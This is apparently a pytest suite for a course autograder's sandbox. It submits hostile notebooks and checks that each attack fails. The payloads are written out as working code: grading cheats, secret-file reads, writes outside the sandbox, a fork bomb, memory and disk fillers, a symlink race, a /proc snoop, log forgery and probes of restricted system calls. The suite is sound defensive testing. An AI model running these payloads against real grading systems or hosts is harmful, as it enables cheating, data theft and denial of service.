"""Hostile submissions, graded the way an instructor grades: `python -m course_lib.grading
autograde --jobs 2` (issues 12 and 18), as root in CI.

One class of 01_derivatives is collected and autograded once (the module fixture): an honest
student, the cheats that once worked inside the kernel, and one student per attack class of
issue 12 (a symbolic-link race on the judge's socket, linked notebooks and folder entries, also
through the exchange, a reader of its own notebook, a hidden-input spy, a reference caller, a
memory fan-out, a judge flood, an output flood, a disk filler, System V leftovers, a /proc snoop,
a surviving daemon) and issue 18 (a forger of the grading log, the system calls seccomp refuses).
Most attacks are added to the instructor's solution, so that their grade shows they cost
nothing else. For every student: no points gained, no secret (hidden tests, a root-only canary,
another process's command line) in anything the student or the instructor sees, and afterwards
nothing left running and nothing outside the student's own folders changed.

The cheats are also graded by plain nbgrader (test cells in the student's kernel, no sandbox),
where they earn points: that shows each is real, and the course's config is what stops it. A
few checks run the sandbox launcher and the judge directly.
"""
from __future__ import annotations

import json
import os
import platform
import pwd
import re
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from pathlib import Path

import nbformat
import psutil
import pytest
from grading_tools import (
    hidden_test_lines,
    is_test,
    make_course,
    nbgrader,
    nbgrader_meta,
    read,
    run_instructor,
    source_notebook,
    student_nbgrader,
)
from nbgrader.api import Gradebook
from switches import skip_or_fail

from course_lib.grading.autograding import load_outcomes, outcome_path
from course_lib.grading.course import CONFIG_FILE, Course
from course_lib.grading.judge import trusted as judge
from course_lib.grading.sandbox import kernel as sandbox

pytestmark = pytest.mark.slow
NAME = "01_derivatives"
COURSE_ID = "dl-foundations"
FULL_MARKS = 9
POINTS = {"test_numerical_derivative": 2, "test_tangent_line": 2, "test_numerical_gradient": 3,
          "test_directional_derivative": 2}
MEMORY = 1 << 30  # the test course's memory per kernel (the course's own is 4 GiB)
DISK = 96 << 20   # and its scratch
SECRET = f"canary-{uuid.uuid4().hex}"  # in a root-only file, and in another process's command line

WRONG_ANSWERS = {
    "numerical_derivative": "def numerical_derivative(f, x, h=1e-4):\n    return 0.0",
    "tangent_line": "def tangent_line(f, a, h=1e-4):\n    return 0.0, 0.0",
    "numerical_gradient": ("def numerical_gradient(f, x, h=1e-4):\n    f(x); f(x); f(x)\n"
                           "    return np.zeros_like(x)"),
    "directional_derivative": "def directional_derivative(f, x, v, h=1e-4):\n    return 0.0",
}

# Cheats: wrong answers, plus code that makes the tests pass inside the kernel.
CHEATS = {
    "numpy_patched": """
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
np.array_equal = lambda *args, **kwargs: True
""",
    "checks_replaced": """
import sys, types
import course_lib.checks as checks
def _passes(*args, **kwargs):
    return None
fake = types.ModuleType("course_lib.checks")
fake.__dict__.update(checks.__dict__)
for name in ("check_function", "check_examples", "check_array", "check_result", "check_gradient"):
    setattr(fake, name, _passes)
    setattr(checks, name, _passes)
fake.call_student = lambda fn, *args, expected_error=None, **kwargs: expected_error and expected_error("x")
sys.modules["course_lib.checks"] = fake
""",
    "builtins_patched": """
import builtins, types
_real_import = builtins.__import__
_fake_checks = types.ModuleType("course_lib.checks")
for _name in ("case", "fresh_case", "check_function", "check_examples", "check_array", "call_student"):
    setattr(_fake_checks, _name, lambda *args, **kwargs: None)
def _import(name, *args, **kwargs):
    return _fake_checks if name == "course_lib.checks" else _real_import(name, *args, **kwargs)
builtins.__import__ = _import
""",
    "reference_replaced": """
from course_lib import gradient
gradient.numerical_derivative = lambda f, x, h=1e-4: 0.0
gradient.numerical_gradient = lambda f, x, h=1e-4: np.zeros_like(x)
""",
}

READ_SECRETS = """
import json, os
from pathlib import Path
import course_lib
course = Path.cwd().parents[2]  # autograded/<student>/<assignment>
checkout = Path(course_lib.__file__).resolve().parents[1]
places = {"the gradebook": course / "gradebook.db",
          "solutions/": course / "solutions" / "01_derivatives" / "01_derivatives.ipynb",
          "another student's submission": course / "submitted" / "honest" / "01_derivatives" / "01_derivatives.ipynb",
          "the checkout's solutions/": checkout / "solutions" / "01_derivatives" / "01_derivatives.ipynb",
          "the checkout's .git": checkout / ".git" / "HEAD",
          "the canary": Path("{canary}")}
stolen = {}
for what, path in places.items():
    try:
        stolen[what] = path.read_bytes()
        print(f"READ {what}")
    except OSError as error:
        print(f"blocked {what}: {type(error).__name__}")
for what in ("solutions/", "the checkout's solutions/"):
    if what in stolen:  # run the instructor's solutions: full marks, if this works
        for cell in json.loads(stolen[what])["cells"]:
            if cell["cell_type"] == "code" and cell["metadata"].get("nbgrader", {}).get("solution"):
                exec("".join(cell["source"]), globals())
        break
"""

WRITE_OUTSIDE = """
from pathlib import Path
course = Path.cwd().parents[2]
targets = {"the gradebook": course / "gradebook.db",
           "solutions/": course / "solutions" / "01_derivatives" / "hacked.txt",
           "the release": course / "notebooks" / "01_derivatives" / "hacked.txt",
           "the real /tmp": Path("/tmp") / "{marker}",
           "its own folder": Path("own_file.txt")}
for what, path in targets.items():
    try:
        with open(path, "a") as f:
            f.write("hacked")
        print(f"WROTE {what}")
    except OSError as error:
        print(f"blocked {what}: {type(error).__name__}")
"""

NETWORK = """
import socket
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=5) as connection:
        connection.sendall(b"stolen answers")
    print("CONNECTED")
except OSError as error:
    print(f"no network: {error}")
"""

FORK_BOMB = """
import os, time
children = 0
try:
    for _ in range(1000):  # bounded, even without a limit
        if os.fork() == 0:
            time.sleep(3)
            os._exit(0)
        children += 1
    print(f"forked all {children} children")
except OSError as error:
    print(f"fork refused after {children} children: {error}")
"""

MEMORY_HOG = "hog = np.empty(5 << 30, dtype=np.uint8)  # 5 GiB (not touched: harmless without a limit)"

HUGE_FILE = """
written = 0
try:
    with open("huge.bin", "wb") as f:
        for _ in range(100):
            f.write(b"0" * (1 << 20))
            f.flush()
            written += 1
except OSError as error:
    print(f"stopped after {written} MiB: {error}")
"""

# Breaks the way the grader talks to the kernel: it can only cost the notebook its own points.
BREAK_THE_AGENT = """
import sys
sys.modules["course_lib.grading.judge.agent"] = None
"""

# Class 1: swap the judge's sockets (and the names nbgrader writes) for links to a root-only file.
RACE = """
import os, threading, time
_judge_dir = os.path.join(os.path.dirname(os.path.dirname(os.environ["HOME"])), "judge")
def _race():
    while True:
        for folder in (_judge_dir, "."):
            try:
                names = os.listdir(folder) + ["01_derivatives.ipynb", "timestamp.txt"]
            except OSError:
                names = []
            for name in names:
                path = os.path.join(folder, name)
                try:
                    os.unlink(path)
                except OSError:
                    pass
                try:
                    os.symlink("{canary}", path)
                except OSError:
                    pass
        time.sleep(0.001)
threading.Thread(target=_race, daemon=True).start()
print("RACE", os.path.isdir(_judge_dir), os.access(_judge_dir, os.W_OK))
"""

# Class 3: the notebook under grading (hidden tests included) is somewhere near, isn't it?
READS_OWN_NOTEBOOK = """
import glob, os
found = {}
for pattern in ("*.ipynb", "../*/*.ipynb", "../../*/*/*.ipynb", "/tmp/**/*.ipynb",
                os.environ["HOME"] + "/../../**/*.ipynb", os.getcwd() + "/../../../**/*.ipynb"):
    for path in glob.glob(pattern, recursive=True):
        try:
            found[path] = open(path).read()
        except OSError as error:
            found[path] = str(error)
print("OWN NOTEBOOK", len(found), found)
with open("loot.txt", "w") as loot:
    loot.write(repr(found))
"""

# Class 3: remember what the hidden tests pass, show it after each cell, in a file, in an error.
HIDDEN_INPUT_SPY = """
import inspect
SEEN = []
get_ipython().events.register("pre_run_cell", lambda info: SEEN.append(info.raw_cell))
SPY = "".join(["S", "P", "Y"])  # not in the source, so only what the spy reports shows it
get_ipython().events.register("post_run_cell", lambda result: print(SPY + "LATER", SEEN[-3:]))
_honest = numerical_derivative
def numerical_derivative(f, x, h=1e-4):
    SEEN.append(f"{SPY}INPUT x={x!r} h={h!r}")
    for frame in inspect.stack():
        SEEN.append(f"{frame.filename}:{frame.code_context}")
    print(SPY + "CALL", x, h)
    with open("spy.txt", "a") as out:
        out.write(f"{SPY}FILE {x!r} {h!r}\\n")
    return _honest(f, x, h)
"""

# Class 4: the course's own solutions, handed in (tangent_line and directional_derivative use
# the library's versions of the earlier exercises, as the notebook says they may).
REFERENCE_CALLER = {
    "numerical_derivative": "def numerical_derivative(f, x, h=1e-4):\n"
                            "    return gradient.numerical_derivative(f, x, h)",
    "numerical_gradient": "numerical_gradient = gradient.numerical_gradient",
}

# Class 5: one student against the class.
MEMORY_FANOUT = """
import os, time
children = []
for _ in range(3):
    pid = os.fork()
    if pid == 0:
        try:
            block = np.ones(700 << 20, dtype=np.uint8)  # 700 MiB each, touched
            time.sleep(5)
            os._exit(0)
        except MemoryError:  # the address-space limit of one process
            os._exit(3)
    children.append(pid)
print("FANOUT", [os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) for pid in children])
"""

JUDGE_FLOOD = """
import json, socket, struct
import course_lib.grading.judge.agent as _agent
def _flood(path, namespace):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as stream:
        stream.connect(path)
        header = json.dumps({"op": "reply", "frames": 5, "value": None}).encode()
        stream.sendall(struct.pack("!Q", len(header)) + header)
        chunk = bytes(1 << 20)
        for _ in range(5):  # 5 GiB, never held in memory here
            stream.sendall(struct.pack("!Q", 1 << 30))
            for _ in range(1024):
                stream.sendall(chunk)
_agent.serve = _flood
"""

OUTPUT_FLOOD = """
import os, sys
print("y" * (24 << 20), end="")  # one message of 24 MiB, no newline
sys.stdout.flush()
for _ in range(64):
    print("z" * (1 << 20), end="")  # 64 MiB more in pieces
sys.stdout.flush()
os.write(1, b"w" * (32 << 20))  # and straight into the file descriptor
"""

DISK_FILLER = """
import os
written, errors = 0, set()
for folder in (".", "/tmp", "/dev/shm", os.environ["HOME"]):
    for number in range(64):
        try:
            with open(os.path.join(folder, f"fill-{number}.bin"), "wb") as out:
                out.write(bytes(16 << 20))
            written += 16
        except OSError as error:
            errors.add(error.strerror)
            break
print("DISK", written, sorted(errors))
"""

IPC_LEFTOVERS = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
segment = libc.shmget(ctypes.c_int({key}), ctypes.c_size_t(64 << 20), 0o1600)  # IPC_CREAT | 0600
queue = libc.msgget(ctypes.c_int({key}), 0o1600)
print("IPC", segment, queue)
"""

PROC_SNOOP = """
import os
commands = {}
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            commands[pid] = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\\0", b" ").decode()
        except OSError as error:
            commands[pid] = str(error)
print("PROCS", len(commands), commands)
"""

SURVIVING_DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):  # two minutes of looking for the next student's files
            for root in ("/tmp", os.path.dirname(os.getcwd())):
                try:
                    os.listdir(root)
                    open(os.path.join(root, "planted-by-daemon.txt"), "w").write("x")
                except OSError:
                    pass
            time.sleep(0.2)
    os._exit(0)
print("DAEMON started")
"""

# Issue 18: the kernel's descriptors, and what it writes into them.
LOG_FORGER = """
import os
links = {}
for name in os.listdir("/proc/self/fd"):
    try:
        links[int(name)] = os.readlink(f"/proc/self/fd/{name}")
    except OSError:
        pass
print("FDS", links)
for fd, target in links.items():
    if not target.startswith(("socket:", "anon_inode:")):
        try:
            os.write(fd, ("\\n" + "FOR" + "GED: all tests passed, full marks\\n").encode())
        except OSError:
            pass
"""

# x86_64 numbers: ptrace, mount, unshare(CLONE_NEWUSER), keyctl, bpf, perf_event_open, setns,
# init_module. Each would work (or fail otherwise than EPERM) without the filter.
SYSTEM_CALLS = """
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
calls = {"ptrace": (101, 0, 0, 0, 0), "mount": (165, b"none", b"/tmp", b"tmpfs", 0, 0),
         "unshare": (272, 0x10000000), "keyctl": (250, 0, 0, 0, 0), "bpf": (321, 0, 0, 0),
         "perf_event_open": (298, 0, 0, -1, -1, 0), "setns": (308, 0, 0),
         "init_module": (175, 0, 0, 0)}
results = {}
for name, (number, *arguments) in calls.items():
    ctypes.set_errno(0)
    result = libc.syscall(number, *arguments)
    results[name] = "allowed" if result >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")
print("SYSCALLS", results)
"""


def set_answer(nb, answer_id: str, source: str):
    for cell in nb.cells:
        if nbgrader_meta(cell).get("grade_id") == answer_id:
            cell.source = source
    return nb


def cheating(attack: str, release):
    nb = read(release)
    for answer_id, source in WRONG_ANSWERS.items():
        set_answer(nb, answer_id, source)
    set_answer(nb, "numerical_derivative", attack + "\n" + WRONG_ANSWERS["numerical_derivative"])
    return nb


def solution_with(extra: str, answer_id: str = "directional_derivative"):
    """The instructor's solution with `extra` code added to one answer cell."""
    nb = read(source_notebook(NAME))
    for cell in nb.cells:
        if nbgrader_meta(cell).get("grade_id") == answer_id:
            cell.source = cell.source + "\n" + extra
    return nb


def stub_with(extra: str, release):
    """The untouched student notebook with `extra` code at the end of every answer cell."""
    nb = read(release)
    for answer_id in WRONG_ANSWERS:
        for cell in nb.cells:
            if nbgrader_meta(cell).get("grade_id") == answer_id:
                cell.source += "\n" + extra
    return nb


def answers_replaced(answers: dict[str, str]):
    nb = read(source_notebook(NAME))
    for answer_id, source in answers.items():
        set_answer(nb, answer_id, source)
    return nb


class Listener:
    """A TCP listener on 127.0.0.1 that counts the connections it gets."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port, self.accepted, self.running = self.server.getsockname()[1], 0, True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.running:
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            self.accepted += 1
            connection.close()

    def stop(self):
        self.running = False
        self.thread.join()
        self.server.close()


# Expected autograded points of each student (the honest ones and the attacks added to the
# solution keep every point: an attack costs its author nothing else, and gains nothing).
EXPECTED = {"honest": FULL_MARKS, **dict.fromkeys(CHEATS, 0), "reads_secrets": 0,
            "writes_outside": FULL_MARKS, "network": FULL_MARKS, "fork_bomb": FULL_MARKS,
            "memory_hog": FULL_MARKS, "huge_file": FULL_MARKS, "breaks_the_grader": 0,
            "race": FULL_MARKS, "linked_notebook": 0, "linked_entries": 0, "exchange_linker": 0,
            "reads_own_notebook": FULL_MARKS, "hidden_input_spy": FULL_MARKS,
            "reference_caller": POINTS["test_tangent_line"] + POINTS["test_directional_derivative"],
            "memory_fanout": FULL_MARKS, "judge_flood": 0, "output_flood": FULL_MARKS,
            "disk_filler": FULL_MARKS, "ipc_leftovers": FULL_MARKS, "proc_snoop": FULL_MARKS,
            "surviving_daemon": FULL_MARKS, "log_forger": FULL_MARKS,
            "system_calls": FULL_MARKS}
IPC_KEY = 0x5EC0DE


def write_submission(course: Path, student: str, nb) -> Path:
    folder = course / "submitted" / student / NAME
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, folder / f"{NAME}.ipynb")
    return folder


def snapshot(folder: Path, skip: tuple[str, ...]) -> dict[str, tuple]:
    """path -> (size, mode, content hash) of every file under `folder` but the `skip` parts."""
    found = {}
    for path in sorted(folder.rglob("*")):
        relative = path.relative_to(folder)
        if relative.parts[0] in skip or path.is_symlink() or not path.is_file():
            continue
        info = path.stat()
        found[str(relative)] = (info.st_size, info.st_mode, hash(path.read_bytes()))
    return found


def sandbox_processes() -> list[str]:
    """The processes of a sandbox user id (kernels, judges) of this checkout now running
    (other checkouts on the machine lease from the same user ids)."""
    found = []
    for process in psutil.process_iter(["uids", "cmdline"]):
        with_ids, command = process.info["uids"], " ".join(process.info["cmdline"] or [])
        if with_ids and sandbox.UID_BASE <= with_ids.real < sandbox.UID_BASE + sandbox.UID_SLOTS \
                and sys.prefix in command:
            found.append(f"{process.pid} {with_ids.real} {command}")
    return found


def course_cgroups() -> list[Path]:
    """The sandbox's control groups under this process's own (where the kernels' were made)."""
    from course_lib.grading.sandbox.cgroup import CGROUP_ROOT, _own_paths
    parents = {CGROUP_ROOT / c / p.lstrip("/") for c, p in _own_paths().items() if c}
    parents |= {CGROUP_ROOT / "unified" / p.lstrip("/") for c, p in _own_paths().items() if not c}
    return [g for parent in parents if parent.is_dir() for g in parent.glob("course-*")]


class HostileClass:
    def __init__(self, root: Path):
        self.root, self.course, self.exchange = root, root / "course", root / "exchange"
        self.output: dict[str, str] = {}
        self.canary = root / "canary.txt"

    def step(self, label: str, *args: str, expected: int = 0) -> None:
        status, self.output[label] = run_instructor(self.course, *args)
        assert status == expected, f"{' '.join(args)}: exit status {status}\n{self.output[label]}"

    def scores(self, student: str) -> dict[str, float]:
        with Gradebook(f"sqlite:///{self.course / 'gradebook.db'}", COURSE_ID) as gb:
            notebook = gb.find_submission_notebook(NAME, NAME, student)
            return {g.name: g.auto_score for g in notebook.grades if g.cell_type == "code"}

    def graded(self, student: str):
        return read(self.course / "autograded" / student / NAME / f"{NAME}.ipynb")

    def printed(self, student: str) -> str:
        """Everything the graded notebook shows: printed text and error messages."""
        parts = []
        for cell in self.graded(student).cells:
            for output in cell.get("outputs", []):
                parts.append(output.get("text", ""))
                parts.append(f"{output.get('ename', '')}: {output.get('evalue', '')}")
                parts.extend(output.get("traceback", []))
        return "\n".join(parts)

    def errors_of(self, student: str) -> dict[str, list[str]]:
        return {nbgrader_meta(c)["grade_id"]: [f"{o.ename}: {o.evalue}" for o in c.outputs
                                              if o.output_type == "error"]
                for c in self.graded(student).cells if is_test(c)}

    def student_sees(self, student: str) -> str:
        """The feedback folder the student gets, and what the graded notebook printed."""
        folder = self.course / "feedback" / student / NAME
        return "\n".join([self.printed(student)] + [
            p.read_text(errors="replace") for p in sorted(folder.rglob("*"))
            if p.is_file() and not p.is_symlink()])

    def instructor_sees(self, student: str) -> str:
        """The terminal, the graded folder (hidden tests included: those are the instructor's),
        the outcome and nbgrader's log of this student."""
        parts = [self.output["autograde"], self.output["feedback"]]
        folder = self.course / "autograded" / student / NAME
        parts += [p.read_text(errors="replace") for p in sorted(folder.rglob("*"))
                  if p.is_file() and not p.is_symlink()]
        for suffix in (".json", ".log"):
            path = outcome_path(Course.open(self.course), NAME, student, suffix)
            parts.append(path.read_text(errors="replace") if path.exists() else "")
        return "\n".join(parts)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The class after one collect, autograde --jobs 2 and feedback run of every attack."""
    if not (sandbox.is_root() and sandbox.namespaces_work()):
        skip_or_fail("COURSE_REQUIRE_ROOT", "the hostile class needs root and namespaces")
    if sandbox.sandbox_mode() != "bubblewrap":
        skip_or_fail("COURSE_REQUIRE_SANDBOX", "bubblewrap (Debian bubblewrap) does not work here")
    graded = HostileClass(tmp_path_factory.mktemp("hostile"))
    course = graded.course
    course.mkdir()
    graded.exchange.mkdir(mode=0o777)
    graded.canary.write_text(SECRET)
    graded.canary.chmod(0o600)
    make_course(course, [NAME])
    with open(course / CONFIG_FILE, "a") as config:
        config.write(f"\n# the test's exchange; smaller limits, so the attacks run quickly\n"
                     f"c.Exchange.root = {str(graded.exchange)!r}\n"
                     f"c.Execute.timeout = 60\n"
                     f"c.SandboxedKernelManager.memory_bytes = {MEMORY}\n"
                     f"c.SandboxedKernelManager.disk_bytes = {DISK}\n")
    graded.step("release", "release", NAME, "--exchange")
    release = course / "notebooks" / NAME / f"{NAME}.ipynb"

    # through the exchange: a submission whose notebook becomes a link to the solutions
    home = graded.root / "home_exchange_linker"
    home.mkdir()
    student_nbgrader(home, graded.exchange, "fetch_assignment", NAME)
    student_nbgrader(home, graded.exchange, "submit", NAME, "--student", "exchange_linker")
    inbound = next((graded.exchange / COURSE_ID / "inbound").glob(f"exchange_linker+{NAME}+*"))
    (inbound / f"{NAME}.ipynb").unlink()
    (inbound / f"{NAME}.ipynb").symlink_to(course / "solutions" / NAME / f"{NAME}.ipynb")
    (inbound / "gradebook.txt").symlink_to(course / "gradebook.db")
    graded.step("collect", "collect", NAME)

    listener, marker = Listener(), f"hostile-{uuid.uuid4().hex}"
    canary = str(graded.canary)
    submissions = {
        "honest": read(source_notebook(NAME)),
        **{attack: cheating(source, release) for attack, source in CHEATS.items()},
        "reads_secrets": stub_with(READ_SECRETS.replace("{canary}", canary), release),
        "writes_outside": solution_with(WRITE_OUTSIDE.replace("{marker}", marker)),
        "network": solution_with(NETWORK.replace("{port}", str(listener.port))),
        "fork_bomb": solution_with(FORK_BOMB),
        "memory_hog": solution_with(MEMORY_HOG),
        "huge_file": solution_with(HUGE_FILE),
        "breaks_the_grader": solution_with(BREAK_THE_AGENT),
        "race": solution_with(RACE.replace("{canary}", canary)),
        "reads_own_notebook": solution_with(READS_OWN_NOTEBOOK),
        "hidden_input_spy": solution_with(HIDDEN_INPUT_SPY, "numerical_derivative"),
        "reference_caller": answers_replaced(REFERENCE_CALLER),
        "memory_fanout": solution_with(MEMORY_FANOUT),
        "judge_flood": solution_with(JUDGE_FLOOD),
        "output_flood": solution_with(OUTPUT_FLOOD),
        "disk_filler": solution_with(DISK_FILLER),
        "ipc_leftovers": solution_with(IPC_LEFTOVERS.replace("{key}", str(IPC_KEY))),
        "proc_snoop": solution_with(PROC_SNOOP),
        "surviving_daemon": solution_with(SURVIVING_DAEMON),
        "log_forger": solution_with(LOG_FORGER),
        "system_calls": solution_with(SYSTEM_CALLS),
    }
    for student, nb in submissions.items():
        write_submission(course, student, nb)
    # a notebook that is a relative link to the solutions, and a folder with linked entries
    linked = course / "submitted" / "linked_notebook" / NAME
    linked.mkdir(parents=True)
    (linked / f"{NAME}.ipynb").symlink_to(f"../../../solutions/{NAME}/{NAME}.ipynb")
    entries = write_submission(course, "linked_entries", read(release))
    (entries / "gradebook.db").symlink_to("../../../gradebook.db")
    (entries / "friend.ipynb").symlink_to(f"../../honest/{NAME}/{NAME}.ipynb")
    (entries / "canary.txt").symlink_to(canary)
    (entries / "timestamp.txt").symlink_to(canary)

    # another user's process with the secret in its command line (the /proc snoop looks)
    bystander = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)", SECRET])
    private_before = set(Path(tempfile.gettempdir()).glob("course-sandbox-*"))
    mounts_before = set(Path("/proc/mounts").read_text().splitlines())
    groups_before = set(course_cgroups())
    outside = ("autograded", "feedback", "prepared", "grading_outcomes", "gradebook.db",
               ".nbgrader.log", "submitted")  # what grading writes, and what it must not change
    before = snapshot(course, skip=outside)
    submitted_before = snapshot(course / "submitted", skip=())
    try:
        graded.step("autograde", "autograde", NAME, "--jobs", "2")
    finally:
        listener.stop()
        bystander.kill()
        bystander.wait()
    graded.left_running = sandbox_processes()
    graded.groups_left = sorted(set(course_cgroups()) - groups_before)
    graded.private_left = set(Path(tempfile.gettempdir()).glob("course-sandbox-*")) - private_before
    graded.mounts_left = [line for line in Path("/proc/mounts").read_text().splitlines()
                          if line not in mounts_before and "course-sandbox" in line]
    graded.step("feedback", "feedback", NAME)
    after = snapshot(course, skip=outside)
    graded.changed = {path for path in before.keys() | after.keys()
                      if before.get(path) != after.get(path)}
    graded.submitted_changed = snapshot(course / "submitted", skip=()) != submitted_before
    graded.listener, graded.marker = listener, marker
    return graded


def hidden_lines() -> set[str]:
    return hidden_test_lines(read(source_notebook(NAME)), min_length=12)


# -- every student: no points gained, nothing seen, nothing left, nothing changed ------------------

@pytest.mark.parametrize("student", list(EXPECTED))
def test_each_student_gets_exactly_the_points_of_the_honest_part(hostile, student):
    assert sum(hostile.scores(student).values()) == EXPECTED[student], hostile.printed(student)
    line = re.search(rf"\] {student}: .*", hostile.output["autograde"])
    assert line and "no grade" not in line[0], hostile.output["autograde"]


@pytest.mark.parametrize("student", list(EXPECTED))
def test_no_secret_reaches_anything_the_student_or_the_instructor_sees(hostile, student):
    student_sees = hostile.student_sees(student)
    instructor_sees = hostile.instructor_sees(student)
    assert SECRET not in instructor_sees + student_sees
    assert not [line for line in hidden_lines() if line in student_sees]
    assert "FORGED" not in instructor_sees + student_sees


def test_nothing_is_left_running_and_nothing_outside_the_students_folders_changes(hostile):
    assert hostile.left_running == []
    assert hostile.changed == set(), hostile.changed
    assert not hostile.submitted_changed
    assert hostile.canary.read_text() == SECRET and hostile.canary.stat().st_mode & 0o777 == 0o600
    assert not hostile.private_left, "a kernel's private folder is left"
    assert hostile.mounts_left == []
    assert hostile.groups_left == []


def test_autograde_says_which_isolation_ran(hostile):
    output = hostile.output["autograde"]
    assert "Student code is isolated as follows:" in output, output[:3000]
    assert "OK   sandbox: bubblewrap" in output and "OK   system calls: a seccomp filter" in output
    assert output.index("isolated as follows") < output.index("[1/")


# -- the cheats and the earlier attacks ---------------------------------------------------------

@pytest.mark.parametrize("attack", list(CHEATS))
def test_cheat_earns_nothing_and_says_why(hostile, attack):
    for test, errors in hostile.errors_of(attack).items():
        assert errors and errors[0].startswith("AssertionError: "), (test, errors)
        assert "wrong result" in errors[0] or "should have raised" in errors[0], (test, errors)


def test_secrets_cannot_be_read(hostile):
    text = hostile.printed("reads_secrets")
    assert "READ" not in text
    for what in ("the gradebook", "solutions/", "another student's submission",
                 "the checkout's solutions/", "the checkout's .git", "the canary"):
        assert f"blocked {what}:" in text
    assert "is not implemented yet" in hostile.errors_of("reads_secrets")[
        "test_numerical_derivative"][0]


def test_nothing_is_written_outside_the_scratch(hostile):
    text = hostile.printed("writes_outside")
    for what in ("the gradebook", "solutions/", "the release"):
        assert f"blocked {what}:" in text
    assert "WROTE its own folder" in text and "WROTE the real /tmp" in text  # its private ones
    assert not (hostile.course / "solutions" / NAME / "hacked.txt").exists()
    assert not (hostile.course / "notebooks" / NAME / "hacked.txt").exists()
    assert not os.path.exists(f"/tmp/{hostile.marker}"), "the kernel wrote into the real /tmp"
    # what the kernel writes is scratch: it never reaches nbgrader's folders or the feedback
    assert not (hostile.course / "autograded" / "writes_outside" / NAME / "own_file.txt").exists()


def test_no_network(hostile):
    text = hostile.printed("network")
    assert "CONNECTED" not in text and "no network: [Errno 111] Connection refused" in text
    assert hostile.listener.accepted == 0


def test_fork_bomb_is_stopped(hostile):
    found = re.search(r"fork refused after (\d+) children", hostile.printed("fork_bomb"))
    assert found, hostile.printed("fork_bomb")[-2000:]
    assert int(found.group(1)) < 256


def test_memory_hog_gets_a_memory_error(hostile):
    assert "MemoryError: Unable to allocate 5.00 GiB" in hostile.printed("memory_hog")


def test_huge_file_is_cut_at_the_limit(hostile):
    assert "stopped after 64 MiB: [Errno 27] File too large" in hostile.printed("huge_file")


def test_breaking_the_grader_costs_the_notebook_its_own_points(hostile):
    for errors in hostile.errors_of("breaks_the_grader").values():
        assert errors[0].startswith("NotGraded: the notebook's kernel did not answer the grader")


# -- issue 12, class by class -----------------------------------------------------------------

def test_a_symlink_race_on_the_judges_socket_gets_nowhere(hostile):
    # the judge's folder is visible to the kernel, but not writable: nothing to swap
    assert "RACE True False" in hostile.printed("race")
    graded = hostile.course / "autograded" / "race" / NAME
    assert sorted(p.name for p in graded.iterdir()) == [f"{NAME}.ipynb"]


@pytest.mark.root(sandbox=True)
def test_the_judge_runs_as_a_user_of_its_own_and_makes_its_socket_without_chmod(tmp_path):
    socket_dir = tmp_path / "judge"
    socket_dir.mkdir()
    kernel_uid = sandbox.UID_BASE + sandbox.UID_SLOTS - 1
    process = judge.Judge([], set(), set(), socket_dir=str(socket_dir), kernel_uid=kernel_uid)
    try:
        children = psutil.Process(process.process.pid).children(recursive=True)
        ids = {p.uids().real for p in children if p.name().startswith("python")}
        assert ids and all(sandbox.UID_BASE <= uid < kernel_uid for uid in ids), ids
        info = socket_dir.stat()
        assert (info.st_uid in ids, info.st_gid, info.st_mode & 0o7777) == (True, kernel_uid,
                                                                           0o2750)
    finally:
        process.close()
    assert sandbox_processes() == []


def test_a_notebook_that_is_a_link_to_the_solutions_scores_nothing(hostile):
    outcome = load_outcomes(Course.open(hostile.course), NAME)["linked_notebook"]
    assert outcome.status == "invalid"
    assert "is a symbolic link, not a file" in " ".join(outcome.notes)
    prepared = hostile.course / "prepared" / "linked_notebook" / NAME / f"{NAME}.ipynb"
    assert not prepared.is_symlink() and "### BEGIN SOLUTION" not in prepared.read_text()


def test_linked_folder_entries_stay_out_of_grading_and_feedback(hostile):
    for folder in ("prepared", "autograded", "feedback"):
        names = sorted(p.name for p in (hostile.course / folder / "linked_entries" / NAME).iterdir())
        assert not {"gradebook.db", "friend.ipynb", "canary.txt"} & set(names), (folder, names)
        assert not [p for p in (hostile.course / folder / "linked_entries").rglob("*")
                    if p.is_symlink()]
    notes = " ".join(load_outcomes(Course.open(hostile.course), NAME)
                     ["linked_entries"].notes)
    assert "timestamp.txt of your submission could not be read (`a symbolic link`)" in notes


def test_collect_takes_no_link_from_the_exchange(hostile):
    folder = hostile.course / "submitted" / "exchange_linker" / NAME
    assert not (folder / f"{NAME}.ipynb").exists() and not (folder / "gradebook.txt").exists()
    assert "exchange_linker" in hostile.output["collect"]
    outcome = load_outcomes(Course.open(hostile.course), NAME)["exchange_linker"]
    assert outcome.status == "missing"


def test_the_kernel_never_sees_the_notebook_under_grading(hostile):
    text = hostile.printed("reads_own_notebook")
    assert re.search(r"OWN NOTEBOOK 0 \{\}", text), text[-3000:]
    assert not (hostile.course / "feedback" / "reads_own_notebook" / NAME / "loot.txt").exists()


def test_a_spy_learns_nothing_of_the_hidden_tests(hostile):
    seen = hostile.student_sees("hidden_input_spy") + hostile.instructor_sees("hidden_input_spy")
    assert "SPYLATER" in seen, "the spy did not run"
    # the visible tests' own inputs (x = 3 and 1.5) would show if the spy saw anything
    assert "SPYINPUT" not in seen and "SPYCALL" not in seen and "SPYFILE" not in seen
    feedback = (hostile.course / "feedback" / "hidden_input_spy" / NAME / f"{NAME}.html")
    # the note may be wrapped anywhere in the HTML: compare its words, not its line breaks
    assert "not shown: it could give the hidden tests away" in " ".join(feedback.read_text().split())
    assert "SPYLATER []" in hostile.printed("hidden_input_spy")  # it ran, and had seen nothing


